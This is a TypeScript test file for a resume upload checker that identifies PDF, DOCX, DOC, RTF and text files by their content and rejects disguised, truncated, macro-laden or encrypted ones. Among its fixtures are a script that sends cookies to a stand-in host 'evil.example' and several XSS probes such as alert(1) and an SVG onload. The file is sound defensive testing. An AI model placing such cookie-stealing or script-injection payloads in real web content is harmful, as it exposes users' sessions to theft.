import { describe, expect, it } from 'vitest';
import { detectResumeType, MAX_RESUME_BYTES, resumeFileProblem } from '../../../shared/resumes/document-type';
import { compoundFile, wordDocument } from '../../fixtures/documents/compound-file';
import { pdf, PDF_HEADERS } from '../../fixtures/documents/pdf';
import { docx, zip } from '../../fixtures/documents/zip';

const DOCX = docx('Ada Lovelace');
const PDF = pdf('Ada Lovelace');
const problem = (bytes: Uint8Array, name = 'resume') => resumeFileProblem(bytes, name);

describe('a resume told by its content', () => {
  it('knows PDF, DOCX, DOC, RTF and TXT', () => {
    expect(detectResumeType(PDF)).toBe('pdf');
    expect(detectResumeType(DOCX)).toBe('docx');
    expect(detectResumeType(wordDocument())).toBe('doc');
    expect(detectResumeType(Buffer.from('{\\rtf1\\ansi Ada}'))).toBe('rtf');
    expect(detectResumeType(Buffer.from('Ada Lovelace\r\nLondon\tUK\n'))).toBe('txt');
    expect(detectResumeType(Buffer.from('Zoë Ångström — résumé\n'))).toBe('txt');
    expect(detectResumeType(Buffer.from('\ufeffAda Lovelace, written in Notepad\r\n'))).toBe('txt');
  });

  it.each(Object.entries(PDF_HEADERS))('takes a PDF as %s writes it', (_producer, header) => {
    expect(detectResumeType(pdf('Ada Lovelace', { header }))).toBe('pdf');
    expect(detectResumeType(pdf('Ada Lovelace', { header, xrefStream: true }))).toBe('pdf');
  });

  it('takes the endings real PDFs have: a CRLF, no line break, NUL padding, an incremental update', () => {
    for (const after of ['\r\n', '', '\0\0\0\0', '\n\n']) expect(detectResumeType(pdf('Ada', { after })), JSON.stringify(after)).toBe('pdf');
    // An update appended to a signed or edited PDF ends in its own xref section and %%EOF.
    const original = pdf('Ada');
    const update = `1 0 obj\n<< /Type /Catalog /Pages 2 0 R /Lang (en) >>\nendobj\n`;
    const xrefAt = original.length + update.length;
    const updated = Buffer.concat([original, Buffer.from(`${update}xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 6 /Root 1 0 R /Prev 0 >>\nstartxref\n${xrefAt}\n%%EOF\n`)]);
    expect(detectResumeType(updated)).toBe('pdf');
  });

  it('refuses a PDF inside something else: a header after other content, HTML after %%EOF, a file cut short, a false offset', () => {
    const html = (inner: Buffer) => Buffer.concat([Buffer.from('<html><body><script>fetch("https://evil.example/"+document.cookie)</script><!--'), inner, Buffer.from('--></body></html>')]);
    expect(problem(html(PDF))).toBe('the file has other content before its PDF header (%PDF-): save or export the PDF again');
    expect(problem(Buffer.concat([Buffer.alloc(100, 0x20), PDF]))).toMatch(/other content before its PDF header/);
    expect(problem(Buffer.concat([PDF, Buffer.from('<script>alert(1)</script>\n')]))).toMatch(/does not end as one \(startxref and %%EOF\)/);
    expect(problem(PDF.subarray(0, PDF.length - 40))).toMatch(/does not end as one/);
    expect(problem(Buffer.from('%PDF-1.4\n<script>alert(1)</script>\n%%EOF\n'))).toMatch(/does not end as one/);
    expect(problem(Buffer.from('%PDF-1.4\n<script>alert(1)</script>\nstartxref\n12\n%%EOF\n'))).toMatch(/cross-reference offset \(startxref\) points to no cross-reference/);
    expect(problem(Buffer.from('%PDF-1.4\nstartxref\n99999\n%%EOF\n'))).toMatch(/points to no cross-reference/);
    // Past 1,024 bytes it is not even a PDF that lost its way: just not a document.
    expect(detectResumeType(Buffer.concat([Buffer.alloc(2000, 0), PDF]))).toBeUndefined();
  });

  it('refuses a DOCX that is not a whole, plain Word document', () => {
    expect(problem(zip({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<workbook/>' }))).toBe('the file is a ZIP archive but not a Word document (DOCX)');
    expect(problem(zip({ 'word/document.xml': '<w:document/>' }))).toMatch(/not a Word document/);
    expect(problem(Buffer.concat([DOCX, Buffer.from('<script>alert(1)</script>')]))).toMatch(/not a whole ZIP archive/);
    expect(problem(DOCX.subarray(0, DOCX.length - 30))).toMatch(/not a whole ZIP archive/);
    expect(problem(Buffer.from('PK\x03\x04 not really a zip, but long enough to look at'))).toMatch(/not a whole ZIP archive/);
    const macros = docx('Ada', { contentType: 'application/vnd.ms-word.document.macroEnabled.main+xml', extra: { 'word/vbaProject.bin': 'VBA' } });
    expect(problem(macros)).toBe('the document contains macros: save it as a plain Word document (.docx)');
    const template = docx('Ada', { contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml' });
    expect(problem(template)).toMatch(/a Word template or macro-enabled document/);
    expect(detectResumeType(docx('Ada', { compressed: true }))).toBe('docx');
  });

  it('refuses a compound file that is not a plain Word document', () => {
    expect(problem(compoundFile([{ name: 'Workbook', data: Buffer.alloc(5000) }]))).toBe('the file is an Office file but not a Word document (DOC)');
    expect(problem(compoundFile([{ name: 'EncryptionInfo', data: Buffer.alloc(200) }, { name: 'EncryptedPackage', data: Buffer.alloc(5000) }]))).toMatch(/password-protected/);
    expect(problem(wordDocument({ encrypted: true }))).toBe('the document is password-protected: employers could not open it');
    expect(problem(wordDocument({ extra: [{ name: 'Macros' }] }))).toBe('the document contains macros: save it without them, or as a .docx');
    expect(problem(compoundFile([{ name: 'WordDocument', data: Buffer.alloc(4096) }, { name: '1Table', data: Buffer.alloc(4096) }]))).toMatch(/older or damaged Word format/);
    expect(problem(compoundFile([{ name: 'WordDocument', data: wordDocument().subarray(0, 10) }]))).toMatch(/damaged/);
    // The old check took any OLE2 header followed by the name anywhere in the file.
    const named = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504), Buffer.from('WordDocument', 'utf16le'), Buffer.alloc(64)]);
    expect(problem(named)).toMatch(/damaged Office compound file/);
    expect(problem(wordDocument().subarray(0, 1200))).toMatch(/damaged/);
  });

  it('reads a small Word document from the mini stream', () => {
    expect(detectResumeType(wordDocument({ size: 1500 }))).toBe('doc');
  });

  it('refuses an RTF that is cut short or embeds an object', () => {
    expect(problem(Buffer.from('{\\rtf1\\ansi Ada'))).toMatch(/not a whole one/);
    expect(problem(Buffer.from('{\\rtf1\\ansi Ada}<script>alert(1)</script>'))).toMatch(/not a whole one/);
    expect(problem(Buffer.from('{\\rtf1\\ansi Ada{\\object\\objemb{\\*\\objdata 0105000002000000}}}'))).toMatch(/embeds an object/);
    expect(detectResumeType(Buffer.from('{\\rtf1\\ansi Ada}\r\n'))).toBe('rtf');
  });

  it('refuses text that is markup, binary or broken', () => {
    for (const page of ['<!DOCTYPE html><html><body>Ada</body></html>', '  <html><script>alert(1)</script>', '<?xml version="1.0"?><svg onload="alert(1)"/>', '<svg xmlns="http://www.w3.org/2000/svg"/>']) {
      expect(problem(Buffer.from(page)), page).toBe('the file is a markup document (HTML, XML or SVG), not plain text');
    }
    // Angle brackets in a resume's text are text.
    expect(detectResumeType(Buffer.from('Ada Lovelace <ada@example.com>\nSkills: C++, <TypeScript>\n'))).toBe('txt');
    expect(detectResumeType(Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0]))).toBeUndefined();
    expect(detectResumeType(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]))).toBeUndefined();
    expect(detectResumeType(Buffer.from([0x41, 0xff, 0xfe, 0x42]))).toBeUndefined();
    expect(detectResumeType(Buffer.from('text with a NUL\0 in it'))).toBeUndefined();
    expect(detectResumeType(Buffer.from(' \n\t '))).toBeUndefined();
  });
});

describe('why a file cannot be sent as a resume', () => {
  it('names emptiness, size, type, and a name that says another type', () => {
    expect(resumeFileProblem(Buffer.alloc(0), 'cv.pdf')).toBe('the file is empty');
    expect(resumeFileProblem(Buffer.alloc(MAX_RESUME_BYTES + 1, 0x41), 'cv.txt')).toBe('the file is 10.0 MB; the limit is 10 MB');
    expect(resumeFileProblem(Buffer.from([0x7f, 0x45, 0x4c, 0x46]), 'cv.pdf')).toBe('the file is not a PDF, DOCX, DOC, RTF, TXT document');
    expect(resumeFileProblem(DOCX, 'cv.pdf')).toBe('the file is a DOCX document but its name ends in .pdf');
    expect(resumeFileProblem(PDF, 'cv.PDF')).toBeNull();
    // A URL's last segment often has no extension: the content decides.
    expect(resumeFileProblem(PDF, 'download')).toBeNull();
  });
});
